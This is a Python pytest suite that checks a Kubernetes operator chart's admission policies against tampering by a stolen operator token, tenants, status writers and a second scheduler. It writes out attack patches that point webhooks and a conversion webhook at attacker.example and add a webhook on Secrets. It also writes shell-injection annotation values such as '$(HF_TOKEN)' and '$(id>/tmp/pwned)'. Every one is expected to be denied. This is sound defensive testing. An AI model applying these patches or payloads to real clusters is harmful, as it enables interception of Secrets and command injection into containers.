"""The operator's token, and every tenant, held by the chart's admission policies to what fiar needs.

A stolen operator token could once rewrite its own MutatingWebhookConfiguration (another URL and
CA, rules widened to every resource: Secrets in clear in the reviews, any pod changed, itself made
cluster-admin), give the policy CRD an ownerReference to a missing object (the garbage collector
deleted the CRD and every policy), or put shell text into a pod annotation that containers read.
Each of these is tried here with the real identity (the operator's service-account token, a
tenant's client certificate) against the chart as installed, on the real API server.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client, config
from kubernetes.client.rest import ApiException

import fiar_contract as contract
from devcluster.binaries import helm, render
from devcluster.cluster import ControlPlane, Tier
from devcluster.waiting import wait_for

pytestmark = pytest.mark.controlplane

ROOT = Path(__file__).resolve().parents[2]
CHART = ROOT / "charts" / "fiar"
NAMESPACE = "fiar-system"
CONFIG = "fiar"
CRD = f"{contract.PLURAL}.{contract.GROUP}"
OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "missing", "uid": "00000000-0000-0000-0000-000000000001"}


@pytest.fixture(scope="module")
def plane(controlplane_binaries: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ControlPlane]:
    plane = ControlPlane(tmp_path_factory.mktemp("operator-token-plane"), Tier.B)
    plane.start()
    try:
        helm("install", "fiar", str(CHART), "--namespace", NAMESPACE, "--create-namespace", kubeconfig=plane.kubeconfig)
        yield plane
    finally:
        plane.stop()


def _client(
    plane: ControlPlane, path: Path, user: str, token: str | None = None, groups: tuple[str, ...] = ()
) -> client.ApiClient:
    kubeconfig = plane.write_kubeconfig(path / f"{user.replace(':', '_')}.kubeconfig", user, groups, token=token)
    return config.new_client_from_config(str(kubeconfig))


@pytest.fixture(scope="module")
def operator_api(plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Iterator[client.ApiClient]:
    token = plane.service_account_token(NAMESPACE, "fiar-operator")
    with _client(plane, tmp_path_factory.mktemp("operator-id"), "fiar-operator", token=token) as api:
        yield api


def _status(call: Any) -> int:
    try:
        call()
        return 200
    except ApiException as exc:
        return int(exc.status)


def _denied(call: Any, words: str) -> None:
    with pytest.raises(ApiException) as denied:
        call()
    assert denied.value.status in (403, 422), denied.value.body
    assert words in denied.value.body, denied.value.body


def _patch_config(api: client.ApiClient, body: Any, dry_run: str | None = "All", kind: str = "strategic") -> Any:
    types = {"strategic": "application/strategic-merge-patch+json", "json": "application/json-patch+json"}
    return client.AdmissionregistrationV1Api(api).patch_mutating_webhook_configuration(
        CONFIG, body, dry_run=dry_run, _content_type=types[kind]
    )


def _wait_for_policies(operator_api: client.ApiClient) -> None:
    # The API server loads new admission policies within a few seconds: probe with dry runs.
    evil = [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]
    wait_for(
        lambda: _status(lambda: _patch_config(operator_api, evil, kind="json")) == 403,
        30,
        "the operator's webhook-configuration policy",
    )


# -- the webhook configuration: only matchConditions ----------------------------------------------
def test_the_operator_token_may_set_only_its_webhooks_match_conditions(
    plane: ControlPlane, operator_api: client.ApiClient
) -> None:
    _wait_for_policies(operator_api)
    conditions = {
        "webhooks": [{"name": "pods.fiar.io", "matchConditions": [{"name": "fiar-policies", "expression": "true"}]}]
    }
    _patch_config(operator_api, conditions, dry_run=None)  # what the leader's sync sends
    url = {"url": "https://attacker.example/mutate", "caBundle": "Zm9v"}
    attacks = {
        "another URL and CA": [{"op": "replace", "path": "/webhooks/0/clientConfig", "value": url}],
        "rules widened to every resource": [
            {
                "op": "replace",
                "path": "/webhooks/0/rules",
                "value": [
                    {"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"], "scope": "*"}
                ],
            }
        ],
        "failurePolicy Fail": [{"op": "replace", "path": "/webhooks/1/failurePolicy", "value": "Fail"}],
        "every namespace": [{"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {}}],
        "a longer timeout": [{"op": "replace", "path": "/webhooks/0/timeoutSeconds", "value": 30}],
        "a third webhook": [
            {
                "op": "add",
                "path": "/webhooks/-",
                "value": {
                    "name": "evil.fiar.io",
                    "clientConfig": url,
                    "sideEffects": "None",
                    "admissionReviewVersions": ["v1"],
                    "rules": [
                        {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}
                    ],
                },
            }
        ],
        "a webhook removed": [{"op": "remove", "path": "/webhooks/1"}],
        "webhooks swapped": [{"op": "move", "from": "/webhooks/1", "path": "/webhooks/0"}],
        "an ownerReference to a missing object": [{"op": "add", "path": "/metadata/ownerReferences", "value": [OWNER]}],
        "a finalizer": [{"op": "add", "path": "/metadata/finalizers", "value": ["example.com/stuck"]}],
        "a label": [{"op": "add", "path": "/metadata/labels/evil", "value": "yes"}],
    }
    for what, patch in attacks.items():
        code = _status(lambda patch=patch: _patch_config(operator_api, patch, dry_run=None, kind="json"))
        assert code in (403, 422), f"{what}: {code}"
    with plane.api_client() as admin_api:
        hooks = client.AdmissionregistrationV1Api(admin_api).read_mutating_webhook_configuration(CONFIG).webhooks
    assert [h.name for h in hooks] == ["pods.fiar.io", "binding.fiar.io"]
    assert all(h.failure_policy == "Ignore" and h.client_config.url is None for h in hooks)
    assert hooks[0].match_conditions[0].expression == "true"
    assert _status(lambda: admin_delete(operator_api)) == 403


def admin_delete(api: client.ApiClient) -> None:
    client.AdmissionregistrationV1Api(api).delete_mutating_webhook_configuration(CONFIG, dry_run="All")


WEBHOOK_EXEMPT = {"matchConditions"}
METADATA_EXEMPT = {"resourceVersion", "generation", "managedFields"}
"""What the operator may change: its webhooks' conditions; the API server's own bookkeeping."""


def _schema(plane: ControlPlane, group: str, name: str) -> set[str]:
    out = subprocess.run(
        [plane.binary("kubectl"), "--kubeconfig", str(plane.kubeconfig), "get", "--raw", f"/openapi/v3/{group}"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    return set(json.loads(out)["components"]["schemas"][name]["properties"])


def test_the_policies_hold_every_other_field_equal(plane: ControlPlane) -> None:
    meta = _schema(plane, "apis/admissionregistration.k8s.io/v1", "io.k8s.apimachinery.pkg.apis.meta.v1.ObjectMeta")
    hook = _schema(plane, "apis/admissionregistration.k8s.io/v1", "io.k8s.api.admissionregistration.v1.MutatingWebhook")
    crd_spec = _schema(
        plane,
        "apis/apiextensions.k8s.io/v1",
        "io.k8s.apiextensions-apiserver.pkg.apis.apiextensions.v1.CustomResourceDefinitionSpec",
    )
    with plane.api_client() as api:
        read = client.AdmissionregistrationV1Api(api).read_validating_admission_policy
        webhook_policy = " ".join(v.expression for v in read("fiar-operator-webhook-conditions-only").spec.validations)
        crd_policy = " ".join(v.expression for v in read("fiar-operator-crd-schema-only").spec.validations)
    for policy in (webhook_policy, crd_policy):
        held = {f for f in meta if f"object.metadata.?{f} == oldObject.metadata.?{f}" in policy}
        assert meta - held == METADATA_EXEMPT, f"metadata not compared: {sorted(meta - held - METADATA_EXEMPT)}"
    held = {
        f
        for f in hook
        if f"object.webhooks[0].?{f} == oldObject.webhooks[0].?{f}" in webhook_policy
        and f"object.webhooks[1].?{f} == oldObject.webhooks[1].?{f}" in webhook_policy
    }
    held |= {"name"} if "object.webhooks[1].name == oldObject.webhooks[1].name" in webhook_policy else set()
    assert hook - held == WEBHOOK_EXEMPT, f"webhook fields not compared: {sorted(hook - held - WEBHOOK_EXEMPT)}"
    held = {f for f in crd_spec if f"object.spec.?{f} == oldObject.spec.?{f}" in crd_policy}
    assert crd_spec - held == {"versions"}, f"CRD spec not compared: {sorted(crd_spec - held - {'versions'})}"
    assert "v.served" in crd_policy and "v.storage" in crd_policy and "v.name" in crd_policy


# -- the CRD: only its schema ----------------------------------------------------------------------
def _apply_crd(api: client.ApiClient, doc: dict[str, Any], dry_run: bool = True) -> Any:
    return client.ApiextensionsV1Api(api).patch_custom_resource_definition(
        CRD,
        doc,
        field_manager="fiar-operator",
        force=True,
        dry_run="All" if dry_run else None,
        _content_type="application/apply-patch+yaml",
    )


def _shipped_crd() -> dict[str, Any]:
    doc: dict[str, Any] = yaml.safe_load((ROOT / "operator/fiar_operator/crds/fiallreducepolicies.yaml").read_text())
    return doc


def test_the_operator_token_may_change_only_the_crd_schema(plane: ControlPlane, operator_api: client.ApiClient) -> None:
    _wait_for_policies(operator_api)
    with plane.api_client() as admin_api:
        admin = client.CustomObjectsApi(admin_api)
        admin.create_cluster_custom_object(
            contract.GROUP,
            contract.VERSION,
            contract.PLURAL,
            {
                "apiVersion": f"{contract.GROUP}/{contract.VERSION}",
                "kind": contract.KIND,
                "metadata": {"name": "keep-me"},
                "spec": {"podSelector": {"matchLabels": {"app": "vllm"}}},
            },
        )
    shipped = _shipped_crd()
    schema = shipped["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    newer = json.loads(json.dumps(shipped))
    newer["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["description"] = "a newer operator's schema"
    _apply_crd(operator_api, newer, dry_run=False)  # what crds.manage does on an upgrade
    _apply_crd(operator_api, shipped, dry_run=False)

    def changed(edit: Any) -> dict[str, Any]:
        doc = json.loads(json.dumps(shipped))
        edit(doc)
        return doc

    second = {**shipped["spec"]["versions"][0], "name": "v1beta1", "storage": False}
    attacks: dict[str, dict[str, Any]] = {
        "an ownerReference to a missing object": changed(lambda d: d["metadata"].update(ownerReferences=[OWNER])),
        "a finalizer": changed(lambda d: d["metadata"].update(finalizers=["example.com/stuck"])),
        "a conversion webhook": changed(
            lambda d: d["spec"].update(
                conversion={
                    "strategy": "Webhook",
                    "webhook": {
                        "conversionReviewVersions": ["v1"],
                        "clientConfig": {"url": "https://attacker.example/convert"},
                    },
                }
            )
        ),
        "other names": changed(lambda d: d["spec"]["names"].update(shortNames=["evil"])),
        "another scope": changed(lambda d: d["spec"].update(scope="Namespaced")),
        "a version no longer served": changed(lambda d: d["spec"]["versions"][0].update(served=False)),
        "a second version": changed(lambda d: d["spec"]["versions"].append(second)),
        "a label": changed(lambda d: d["metadata"]["labels"].update(evil="yes")),
    }
    for what, doc in attacks.items():
        assert _status(lambda doc=doc: _apply_crd(operator_api, doc)) in (403, 422), what
    assert (
        _status(lambda: client.ApiextensionsV1Api(operator_api).delete_custom_resource_definition(CRD, dry_run="All"))
        == 403
    )
    with plane.api_client() as admin_api:
        stored = client.ApiextensionsV1Api(admin_api).read_custom_resource_definition(CRD)
        assert not stored.metadata.owner_references and not stored.metadata.finalizers
        assert stored.spec.conversion.strategy == "None"
        assert client.CustomObjectsApi(admin_api).get_cluster_custom_object(
            contract.GROUP, contract.VERSION, contract.PLURAL, "keep-me"
        )
    assert schema == _shipped_crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]


# -- pod annotations a container reads: only fiar's values, from every writer ----------------------
INJECTION = "false $(echo --injected-uid-$(id -u)) --trust-remote-code"


def _pod(name: str, annotations: dict[str, str]) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "annotations": annotations},
        "spec": {"nodeName": "nowhere", "containers": [{"name": "vllm", "image": "vllm/vllm-openai"}]},
    }


@pytest.fixture(scope="module")
def tenant(plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, client.CoreV1Api]]:
    namespace = plane.create_namespace("team-a")
    with plane.api_client() as admin_api:
        rbac = client.RbacAuthorizationV1Api(admin_api)
        rbac.create_namespaced_role(
            namespace,
            {
                "metadata": {"name": "pods"},
                "rules": [
                    {"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "create", "update", "patch", "delete"]}
                ],
            },
        )
        rbac.create_namespaced_role_binding(
            namespace,
            {
                "metadata": {"name": "alice"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "pods"},
                "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "alice"}],
            },
        )
    with _client(plane, tmp_path_factory.mktemp("alice"), "alice") as api:
        yield namespace, client.CoreV1Api(api)


@pytest.mark.parametrize("key", sorted(contract.POD_ANNOTATION_VALUES))
def test_a_tenant_cannot_put_text_a_container_reads_into_fiar_annotations(
    plane: ControlPlane, tenant: tuple[str, client.CoreV1Api], key: str
) -> None:
    namespace, alice = tenant
    name = key.split("/")[1]
    wait_for(
        lambda: (
            _status(
                lambda: alice.create_namespaced_pod(namespace, _pod(f"probe-{name}", {key: INJECTION}), dry_run="All")
            )
            == 422
        ),
        30,
        "the pod-annotation-values policy",
    )
    _denied(lambda: alice.create_namespaced_pod(namespace, _pod(f"bad-{name}", {key: INJECTION})), key)
    for value in sorted(contract.POD_ANNOTATION_VALUES[key]):
        alice.create_namespaced_pod(namespace, _pod(f"ok-{name}", {key: value}), dry_run="All")
    alice.create_namespaced_pod(namespace, _pod(f"ok-{name}", {key: min(contract.POD_ANNOTATION_VALUES[key])}))
    for value in [
        v for v in ("", " false", "FALSE", "false\n", "$(HF_TOKEN)") if v not in contract.POD_ANNOTATION_VALUES[key]
    ]:
        _denied(
            lambda value=value: alice.patch_namespaced_pod(
                f"ok-{name}", namespace, {"metadata": {"annotations": {key: value}}}
            ),
            key,
        )


def test_the_operator_token_cannot_put_text_into_fiar_annotations(
    plane: ControlPlane, operator_api: client.ApiClient, tenant: tuple[str, client.CoreV1Api]
) -> None:
    namespace, _ = tenant
    with plane.api_client() as admin_api:
        client.CoreV1Api(admin_api).create_namespaced_pod(namespace, _pod("served", {}))
    as_operator = client.CoreV1Api(operator_api)
    wait_for(
        lambda: (
            _status(
                lambda: as_operator.patch_namespaced_pod(
                    "served",
                    namespace,
                    {"metadata": {"annotations": {contract.ANNOTATION_POD_FUSE_ALLREDUCE_RMS: INJECTION}}},
                    dry_run="All",
                )
            )
            == 422
        ),
        30,
        "the pod-annotation-values policy",
    )
    for key in contract.POD_ANNOTATION_VALUES:
        _denied(
            lambda key=key: as_operator.patch_namespaced_pod(
                "served", namespace, {"metadata": {"annotations": {key: INJECTION}}}
            ),
            key,
        )
    fiar_values = {
        contract.ANNOTATION_POD_BACKEND: "trtllm",
        contract.ANNOTATION_POD_FUSE_ALLREDUCE_RMS: "false",
        contract.ANNOTATION_POD_ALLREDUCE_USE_FLASHINFER: "0",
    }
    as_operator.patch_namespaced_pod("served", namespace, {"metadata": {"annotations": fiar_values}})


def test_a_value_stored_before_the_policy_is_kept_on_other_updates(
    plane: ControlPlane, tenant: tuple[str, client.CoreV1Api]
) -> None:
    namespace, alice = tenant
    with plane.api_client() as admin_api:  # the cluster admin is exempt (e.g. a pod from before the install)
        client.CoreV1Api(admin_api).create_namespaced_pod(
            namespace, _pod("legacy", {contract.ANNOTATION_POD_BACKEND: "nvls"})
        )
    alice.patch_namespaced_pod("legacy", namespace, {"metadata": {"labels": {"team": "a"}}})
    _denied(
        lambda: alice.patch_namespaced_pod(
            "legacy", namespace, {"metadata": {"annotations": {contract.ANNOTATION_POD_BACKEND: "nvls2"}}}
        ),
        contract.ANNOTATION_POD_BACKEND,
    )


def test_the_chart_allows_exactly_the_contracts_annotation_values(controlplane_binaries: Any) -> None:
    policy = next(
        d
        for d in render(CHART)
        if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"] == "fiar-pod-annotation-values"
    )
    found = {}
    for validation in policy["spec"]["validations"]:
        expression = validation["expression"]
        key = expression.split("'")[1]
        found[key] = frozenset(json.loads(expression.split(" in ", 2)[2].split(" ||")[0]))
    assert found == contract.POD_ANNOTATION_VALUES


# -- the other paths to a pod's annotations: pods/status, a Binding -------------------------------
def _identity(
    plane: ControlPlane, path: Path, namespace: str, user: str, rules: list[dict[str, Any]]
) -> client.ApiClient:
    """A certificate identity with exactly ``rules`` in ``namespace`` (a controller, a scheduler)."""
    with plane.api_client() as admin_api:
        rbac = client.RbacAuthorizationV1Api(admin_api)
        rbac.create_namespaced_role(namespace, {"metadata": {"name": user}, "rules": rules})
        rbac.create_namespaced_role_binding(
            namespace,
            {
                "metadata": {"name": user},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": user},
                "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}],
            },
        )
    return _client(plane, path, user)


def test_a_status_writer_cannot_put_text_into_fiar_annotations(
    plane: ControlPlane, tenant: tuple[str, client.CoreV1Api], tmp_path: Path
) -> None:
    """A batch controller's identity (Kueue, Volcano: patch on pods/status) writes the pod's metadata
    through the status subresource, whose strategy keeps only spec and ownerReferences."""
    namespace, _ = tenant
    rules = [{"apiGroups": [""], "resources": ["pods/status"], "verbs": ["get", "patch", "update"]}]
    with plane.api_client() as admin_api:
        client.CoreV1Api(admin_api).create_namespaced_pod(namespace, _pod("queued", {}))
    with _identity(plane, tmp_path, namespace, "batch-controller", rules) as api:
        controller = client.CoreV1Api(api)
        wait_for(
            lambda: (
                _status(
                    lambda: controller.patch_namespaced_pod_status(
                        "queued",
                        namespace,
                        {"metadata": {"annotations": {contract.ANNOTATION_POD_BACKEND: INJECTION}}},
                        dry_run="All",
                    )
                )
                == 422
            ),
            30,
            "the pod-annotation-values policy on pods/status",
        )
        for key in contract.POD_ANNOTATION_VALUES:
            for value in (INJECTION, "log-level=$(HF_TOKEN)"):
                _denied(
                    lambda key=key, value=value: controller.patch_namespaced_pod_status(
                        "queued", namespace, {"metadata": {"annotations": {key: value}}}
                    ),
                    key,
                )
        condition = {"type": "PodScheduled", "status": "False", "reason": "Queued", "lastTransitionTime": None}
        controller.patch_namespaced_pod_status("queued", namespace, {"status": {"conditions": [condition]}})
        controller.patch_namespaced_pod_status(
            "queued", namespace, {"metadata": {"annotations": {contract.ANNOTATION_POD_BACKEND: "trtllm"}}}
        )
    with plane.api_client() as admin_api:
        stored = client.CoreV1Api(admin_api).read_namespaced_pod("queued", namespace).metadata.annotations
    assert {k: v for k, v in stored.items() if k.startswith("fiar.io/")} == {contract.ANNOTATION_POD_BACKEND: "trtllm"}


def _binding(name: str, annotations: dict[str, str]) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Binding",
        "metadata": {"name": name, "annotations": annotations},
        "target": {"apiVersion": "v1", "kind": "Node", "name": "gpu-1"},
    }


def test_a_second_scheduler_cannot_carry_text_onto_a_pod_in_its_binding(
    plane: ControlPlane, tenant: tuple[str, client.CoreV1Api], tmp_path: Path
) -> None:
    """A Binding's own annotations are copied onto the pod by the API server (both pods/binding and
    the legacy bindings resource): a second scheduler's identity may bind, not write shell text."""
    namespace, _ = tenant
    rules = [{"apiGroups": [""], "resources": ["pods/binding", "bindings"], "verbs": ["create"]}]
    pods = ("bound-a", "bound-b", "bound-c")
    with plane.api_client() as admin_api:
        core = client.CoreV1Api(admin_api)
        for name in pods:
            pod = _pod(name, {})
            pod["spec"] = {"schedulerName": "second-scheduler", "containers": pod["spec"]["containers"]}
            core.create_namespaced_pod(namespace, pod)
    with _identity(plane, tmp_path, namespace, "second-scheduler", rules) as api:
        scheduler = client.CoreV1Api(api)

        def bind(name: str, annotations: dict[str, str], legacy: bool = False, dry_run: str | None = None) -> None:
            create = scheduler.create_namespaced_binding if legacy else scheduler.create_namespaced_pod_binding
            args = (namespace,) if legacy else (name, namespace)
            create(*args, _binding(name, annotations), dry_run=dry_run, _preload_content=False)

        wait_for(
            lambda: (
                _status(lambda: bind("bound-a", {contract.ANNOTATION_POD_BACKEND: INJECTION}, dry_run="All")) == 422
            ),
            30,
            "the pod-annotation-values policy on pods/binding",
        )
        for key in contract.POD_ANNOTATION_VALUES:
            _denied(lambda key=key: bind("bound-a", {key: INJECTION}), key)
            _denied(lambda key=key: bind("bound-b", {key: "$(id>/tmp/pwned)"}, legacy=True), key)
        bind("bound-a", {contract.ANNOTATION_POD_BACKEND: "mnnvl", "example.com/other": "$(any text)"})
        bind("bound-c", {contract.ANNOTATION_POD_FUSE_ALLREDUCE_RMS: "false"}, legacy=True)
    with plane.api_client() as admin_api:
        core = client.CoreV1Api(admin_api)
        a, b, c = (core.read_namespaced_pod(name, namespace) for name in pods)
    assert a.spec.node_name == "gpu-1" and a.metadata.annotations[contract.ANNOTATION_POD_BACKEND] == "mnnvl"
    assert b.spec.node_name is None and not any(k.startswith("fiar.io/") for k in b.metadata.annotations or {})
    assert c.metadata.annotations[contract.ANNOTATION_POD_FUSE_ALLREDUCE_RMS] == "false"
